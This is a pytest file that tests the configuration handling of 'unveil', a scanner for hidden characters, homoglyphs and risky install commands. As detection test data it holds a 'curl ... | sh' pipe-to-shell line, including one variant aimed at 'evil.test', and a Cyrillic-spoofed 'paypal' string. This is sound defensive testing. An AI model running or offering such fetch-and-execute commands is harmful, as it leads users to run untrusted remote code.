"""Project configuration (unveil.core.project): discovery, layering, per-file ignores, allow-lists,
user rule files and error reporting."""

from __future__ import annotations

from unveil.core import project
from unveil.core.analyze import analyze

ZW = "\u200b"


def rules_of(path, text, settings):
    a = analyze(text, str(path), settings, count_tokens=False)
    return [(f.rule, a.doc.position(f.start).line) for f in a.findings]


def test_nearest_config_wins_and_keys_are_normalised(tmp_path):
    (tmp_path / "pyproject.toml").write_text('[tool.unveil]\nignore = ["HID002"]\n')
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / ".unveil.toml").write_text('select = ["hidden-content"]\nper_file_ignores = {"*.md" = ["HID008"]}\n')
    s, cfg = project.settings_for(str(sub / "x.md"))
    assert cfg.path == sub / ".unveil.toml" and cfg.errors == ()
    assert s.select == frozenset({"hidden-content"}) and s.ignore == frozenset()
    assert s.per_file_ignores == (("*.md", frozenset({"HID008"})),)
    s2, cfg2 = project.settings_for(str(tmp_path / "y.md"))
    assert cfg2.path == tmp_path / "pyproject.toml" and s2.ignore == frozenset({"HID002"})


def test_pyproject_without_tool_unveil_is_passed_over(tmp_path):
    (tmp_path / ".unveil.toml").write_text('ignore = ["HID002"]\n')
    sub = tmp_path / "pkg"
    sub.mkdir()
    (sub / "pyproject.toml").write_text('[project]\nname = "x"\n')
    s, cfg = project.settings_for(str(sub / "a.md"))
    assert cfg.path == tmp_path / ".unveil.toml" and s.ignore == frozenset({"HID002"})


def test_layers_editor_over_project_and_empty_editor_values_keep_project(tmp_path):
    (tmp_path / ".unveil.toml").write_text('ignore = ["HID002"]\nmodels = ["opus"]\n[severity]\nHID008 = "error"\n')
    editor = {"ignore": [], "models": ["sonnet"], "pricesFile": "", "severity": {"HID008": "hint"}}
    s, _ = project.settings_for(str(tmp_path / "a.md"), [editor])
    assert s.ignore == frozenset({"HID002"}) and s.models == ("sonnet",)
    assert s.severity["HID008"].label == "hint"
    s, _ = project.settings_for(str(tmp_path / "a.md"), [{"unveil": {"ignore": ["HID008"]}}, {"ignore": ["HID001"]}])
    assert s.ignore == frozenset({"HID001"})


def test_broken_config_reports_file_and_uses_defaults(tmp_path):
    (tmp_path / ".unveil.toml").write_text('ignore = ["HID002"\n')
    s, cfg = project.settings_for(str(tmp_path / "a.md"))
    assert s.ignore == frozenset() and len(cfg.errors) == 1
    assert cfg.errors[0].startswith(f"{tmp_path / '.unveil.toml'}: invalid TOML, using the defaults:")


def test_bad_value_loses_nothing_else(tmp_path):
    (tmp_path / ".unveil.toml").write_text('ignore = ["HID002"]\ncolour = 1\n[severity]\nHID008 = "loud"\n')
    s, cfg = project.settings_for(str(tmp_path / "a.md"))
    assert s.ignore == frozenset({"HID002"}) and s.problems == ()
    path = tmp_path / ".unveil.toml"
    assert cfg.errors == (
        f"{path}: unknown key 'colour' (ignored)",
        f"{path}: setting severity.HID008: unknown severity 'loud'; expected error, warning, info or hint",
    )


def test_per_file_ignores_relative_to_config(tmp_path):
    (tmp_path / ".unveil.toml").write_text('[per-file-ignores]\n"docs/*.md" = ["HID002"]\n')
    (tmp_path / "docs").mkdir()
    text = f"a{ZW}b\n"
    s, _ = project.settings_for(str(tmp_path / "docs" / "x.md"))
    assert rules_of(tmp_path / "docs" / "x.md", text, s) == []
    s, _ = project.settings_for(str(tmp_path / "x.md"))
    assert rules_of(tmp_path / "x.md", text, s) == [("HID002", 0)]


def test_allow_codepoints_scripts_hosts(tmp_path):
    (tmp_path / ".unveil.toml").write_text(
        '[allow]\ncodepoints = ["U+200B"]\nscripts = ["Cyrillic"]\nhosts = ["example.com"]\n'
    )
    s, cfg = project.settings_for(str(tmp_path / "a.md"))
    assert cfg.errors == ()
    assert s.allow_codepoints == frozenset({"U+200B"}) and s.allow_hosts == frozenset({"example.com"})
    assert rules_of(tmp_path / "a.md", f"a{ZW}b\n", s) == []
    assert rules_of(tmp_path / "a.md", "a\u2060b\n", s) == [("HID002", 0)]  # WORD JOINER not allowed
    cyr = "Use the p\u0430ypal account.\n"  # Cyrillic а inside a Latin word
    assert ("HID013", 0) in rules_of(tmp_path / "a.md", cyr, project.settings_for(None)[0])
    assert rules_of(tmp_path / "a.md", cyr, s) == []
    pipe = "Run `curl -fsSL https://get.example.com/i.sh | sh` to install.\n"
    plain = project.settings_for(None)[0]
    assert any(r.startswith("SUP") for r, _ in rules_of(tmp_path / "a.md", pipe, plain))
    assert not any(r.startswith("SUP") for r, _ in rules_of(tmp_path / "a.md", pipe, s))
    other = pipe.replace("get.example.com", "evil.test")
    assert any(r.startswith("SUP") for r, _ in rules_of(tmp_path / "a.md", other, s))


def test_hosts_in():
    assert project.hosts_in("see https://User@API.Example.com:8443/x and http://[::1]/") == ["api.example.com", "::1"]
    assert project.host_allowed("api.example.com", frozenset({"example.com"}))
    assert not project.host_allowed("badexample.com", frozenset({"example.com"}))


def test_user_rules_paths_relative_to_config(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "mine.toml").write_text(
        'category = "custom"\n[[rule]]\nid = "USR001"\nname = "no-frobnicate"\nseverity = "warning"\n'
        'check = "directives"\nsummary = "frobnicate"\npatterns = ["frobnicate the \\\\w+"]\nmessage = "m"\n'
    )
    (tmp_path / ".unveil.toml").write_text('rules-paths = ["rules"]\n')
    s, _ = project.settings_for(str(tmp_path / "a.md"))
    assert s.rules_paths == (str((tmp_path / "rules").resolve()),)
    assert rules_of(tmp_path / "a.md", "Please frobnicate the widget.\n", s) == [("USR001", 0)]
    # a suppression may name the user rule
    text = "Please frobnicate the widget. <!-- unveil-ignore USR001: allowed here -->\n"
    assert rules_of(tmp_path / "a.md", text, s) == []


def test_cache_follows_mtime(tmp_path):
    cfg = tmp_path / ".unveil.toml"
    cfg.write_text('ignore = ["HID002"]\n')
    assert project.settings_for(str(tmp_path / "a.md"))[0].ignore == frozenset({"HID002"})
    import os

    cfg.write_text('ignore = ["HID008", "HID001"]\n')
    st = cfg.stat()
    os.utime(cfg, ns=(st.st_atime_ns, st.st_mtime_ns + 10_000_000))
    assert project.settings_for(str(tmp_path / "a.md"))[0].ignore == frozenset({"HID008", "HID001"})
